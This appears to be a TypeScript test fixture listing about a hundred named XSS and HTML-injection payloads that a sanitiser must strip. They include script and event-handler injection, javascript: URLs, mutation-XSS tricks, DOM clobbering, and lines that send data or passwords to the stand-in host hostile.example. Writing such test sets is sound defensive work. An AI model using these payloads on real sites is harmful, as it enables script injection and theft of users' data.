/** Markup that attacks the page it is inserted into, named after its technique. */
export interface HostileMarkup {
  name: string;
  markup: string;
}

/** The host that a successful attack sends a request to, unless it calls `hostile()` in the page. */
export const hostileHost = 'hostile.example';

/**
 * Known attacks on pages that trust markup: they run scripts, send requests, break out of the surrounding element, or disturb the
 * page's scripts. The list includes markup that looks harmless to a parser until a browser changes it. The sanitiser must remove all
 * of these attacks.
 */
export const hostileMarkup: readonly HostileMarkup[] = Object.entries({
  // Script
  'script element': '<script>hostile()</script>',
  'script in capitals': '<SCRIPT>hostile()</SCRIPT>',
  'script with a slash': '<script/x>hostile()</script/x>',
  'script in a script': '<scr<script>ipt>hostile()</scr</script>ipt>',
  'script that never ends': '<p>x</p><script>hostile()',
  'script from elsewhere': '<script src="https://hostile.example/x.js"></script>',
  'script as a module': '<script type="module">import "https://hostile.example/x.js"</script>',
  'script after a comment trick': '<!--><script>hostile()</script>-->',
  'script after a bang comment': '<!--x--!><script>hostile()</script>-->',
  'script in a conditional comment':
    '<!--[if gte IE 4]><script>hostile()</script><![endif]--><script>hostile()</script>',
  'script in CDATA': '<![CDATA[<script>hostile()</script>]]><script>hostile()</script>',
  'script with a null': '<scr\0ipt>hostile()</scr\0ipt><script\0>hostile()</script>',
  'script of entities in a link':
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;hostile()">x</a>',
  // Handlers
  'image that fails': '<img src=x onerror=hostile()>',
  'image with a slash': '<img/src=x/onerror=hostile()>',
  'image with quotes': '<img """><img src="x" onerror="hostile()">">',
  'image with backticks': '<img src=`x`onerror=hostile()>',
  'image with a form feed': '<img\fsrc=x\fonerror=hostile()>',
  'image in capitals': '<IMG SRC=x OnErRoR=hostile()>',
  'handler on an own element': '<x onclick=hostile() tabindex=1 autofocus onfocus=hostile()>x</x>',
  'handler on a kept element': '<details open ontoggle=hostile()><summary onclick=hostile()>x</summary></details>',
  'handler on focus': '<a href="/x" autofocus onfocus="hostile()">x</a>',
  'handler on an animation': '<p style="animation: a 1s" onanimationstart="hostile()">x</p>',
  'handler with a new line': '<p onclick\n=\n"hostile()">x</p>',
  'handler on the body': '<body onload=hostile() onpageshow=hostile()>',
  'handler on a marquee': '<marquee onstart=hostile()>x</marquee>',
  'handler on a video': '<video onerror=hostile()><source src=x></video>',
  'handler on an audio': '<audio src=x onerror=hostile()></audio>',
  'handler that breaks out of an attribute': '<img alt="`><img src=x onerror=hostile()>" src="/x.png">',
  // URLs
  'javascript URL': '<a href="javascript:hostile()">x</a>',
  'javascript URL in capitals': '<a href="JaVaScRiPt:hostile()">x</a>',
  'javascript URL with a tab': '<a href="java\tscript:hostile()">x</a>',
  'javascript URL with a new line': '<a href="java\nscript:hostile()">x</a>',
  'javascript URL after a control': '<a href="\u0001javascript:hostile()">x</a>',
  'javascript URL after a space': '<a href=" &#14;  javascript:hostile()">x</a>',
  'javascript URL with named entities': '<a href="java&Tab;script&colon;hostile&lpar;&rpar;">x</a>',
  'vbscript URL': '<a href="vbscript:hostile()">x</a>',
  'data URL': '<a href="data:text/html,<script>hostile()</script>">x</a>',
  'blob URL': '<a href="blob:https://hostile.example/x">x</a>',
  'URL of no protocol': '<a href="//hostile.example/">x</a>',
  'URL with a backslash': '<a href="/\\hostile.example/">x</a>',
  'URL that becomes another host': '<a href="/.//hostile.example/">x</a>',
  'URL with a name before the host': '<a href="https://store@hostile.example/">x</a>',
  'view-source URL': '<a href="view-source:https://hostile.example/">x</a>',
  // Loading and sending
  'picture from elsewhere': '<img src="https://hostile.example/pixel.png">',
  'picture by srcset': '<img src="/content/dam/x.png" srcset="https://hostile.example/pixel.png 1x">',
  'picture by source': '<picture><source srcset="https://hostile.example/x.png"><img src="x"></picture>',
  'picture as SVG from the site': '<img src="/content/dam/x.svg">',
  'picture that climbs': '<img src="/content/dam/../../auth/logout.png">',
  'background of a style': '<p style="background: url(https://hostile.example/x)">x</p>',
  'background of a table': '<table background="https://hostile.example/x"><tr><td>x</td></tr></table>',
  'style element': '<style>@import "https://hostile.example/x.css"; body { display: none }</style>',
  'style that never ends': '<p>x</p><style>body { display: none }',
  'sheet by link': '<link rel="stylesheet" href="https://hostile.example/x.css">',
  'page to fetch before':
    '<link rel="prefetch" href="https://hostile.example/x"><link rel="prerender" href="https://hostile.example/x">',
  refresh: '<meta http-equiv="refresh" content="0; url=https://hostile.example/">',
  policy: '<meta http-equiv="Content-Security-Policy" content="script-src \'unsafe-inline\'">',
  base: '<base href="https://hostile.example/">',
  frame: '<iframe src="https://hostile.example/"></iframe>',
  'frame with a document': '<iframe srcdoc="<script>parent.hostile()</script>"></iframe>',
  'frame set': '<frameset><frame src="javascript:hostile()"></frameset><iframe></iframe>',
  object: '<object data="https://hostile.example/x.swf"><embed src="https://hostile.example/x.swf"></object>',
  portal: '<portal src="https://hostile.example/"></portal><fencedframe src="https://hostile.example/"></fencedframe>',
  form: '<form action="https://hostile.example/"><input name="password" type="password"><button>Sign in</button></form>',
  'button of another form': '<button form="pay" formaction="https://hostile.example/">Pay</button>',
  'input with a picture': '<input type="image" src="https://hostile.example/x.png" onerror="hostile()">',
  'unfinished attribute that swallows the page': '<a href="/x" title="swallowed',
  'unfinished picture that sends the page': "<img src='https://hostile.example/?",
  'ping of a link': '<a href="/x" ping="https://hostile.example/">x</a>',
  'link that is attributed': '<a href="/x" attributionsrc="https://hostile.example/">x</a>',
  // SVG, MathML and other ways of parsing
  'SVG that loads': '<svg onload=hostile()>',
  'SVG script': '<svg><script>hostile()</script></svg>',
  'SVG link': '<svg><a xlink:href="javascript:hostile()"><text y="20">x</text></a></svg>',
  'SVG animation': '<svg><a><animate attributeName=href values=javascript:hostile() /><text y="20">x</text></a></svg>',
  'SVG use':
    '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>hostile()</script></svg>#x"/></svg>',
  'SVG foreign object':
    '<svg><foreignObject><iframe srcdoc="<script>hostile()</script>"></iframe></foreignObject></svg>',
  'MathML link': '<math><maction actiontype="statusline" xlink:href="javascript:hostile()">x</maction></math>',
  'mutation by style in SVG': '<svg></p><style><a id="</style><img src=1 onerror=hostile()>">',
  'mutation by title in SVG': '<svg><title><a title="</title><img src=x onerror=hostile()>"></svg>',
  'mutation by MathML text':
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=hostile()&gt;">',
  'mutation by a form in MathML':
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=hostile()></style></mglyph></form>',
  'mutation by annotation':
    '<math><annotation-xml encoding="text/html"><style><img src onerror=hostile()></style></annotation-xml></math>',
  'mutation by noscript': '<noscript><p title="</noscript><img src=x onerror=hostile()>"></noscript>',
  'mutation by noembed': '<noembed><p title="</noembed><img src=x onerror=hostile()>"></noembed>',
  'mutation by noframes': '<noframes><p title="</noframes><img src=x onerror=hostile()>"></noframes>',
  'mutation by xmp': '<xmp><p title="</xmp><img src=x onerror=hostile()>"></xmp>',
  'mutation by textarea': '<textarea><p title="</textarea><img src=x onerror=hostile()>"></textarea>',
  'mutation by a slash in textarea': '<textarea></textarea/><img src=x onerror=hostile()></textarea>',
  'mutation by title': '<title><p title="</title><img src=x onerror=hostile()>"></title>',
  'mutation by iframe': '<iframe><p title="</iframe><img src=x onerror=hostile()>"></iframe>',
  'mutation by plaintext': '<plaintext><img src=x onerror=hostile()>',
  'mutation by select':
    '<select><template><style><!--</style><a rel="--></style></template></select><img id=x src onerror=hostile()>">',
  'mutation by option': '<option>&lt;script&gt;hostile()&lt;/script&gt;<script>hostile()</script></option>',
  'mutation by template':
    '<template><img src=x onerror=hostile()></template><template shadowrootmode=open><img src=x onerror=hostile()></template>',
  'mutation by a table': '<table><a href="javascript:hostile()"><td>x</td></a></table>',
  // Breaking out of the element, or interfering with others
  'end tags of what is around': '</footer></header></div></body></html><h1 id="main">x</h1>',
  'links within links':
    '<a href="/x"><div><a href="/y">x</a></div></a></a><a href="/x"><p><a href="/y"><div id="out">x</div></a></p></a>',
  'elements that never end': '<a href="/x"><b><i><div id="open"><ul><li>x',
  'comment that never ends': '<p>x</p><!-- <img src=x onerror=hostile()>',
  'over the page': '<div style="position: fixed; inset: 0; z-index: 99999">Your session has ended</div>',
  'classes of the page': '<div class="dialog overlay" part="x" slot="header">x</div>',
  'id of another part': '<div id="main"></div><p id="page-data">{}</p>',
  'names over names of the document': '<img name="getElementById"><a id="document" name="cookie" href="/x">x</a>',
  'form properties over names': '<form id="x"><input name="attributes"><input name="childNodes"></form>',
  'target without protection': '<a href="https://hostile.example/" target="opener" rel="opener">x</a>',
  'editable page': '<div contenteditable tabindex="0" accesskey="s">x</div>',
  'own element': '<assess-header is="x-y">x</assess-header>',
  'role of a dialog': '<div role="alertdialog" aria-modal="true" aria-hidden="true">Your card was refused</div>',
}).map(([name, markup]) => ({ name, markup }));
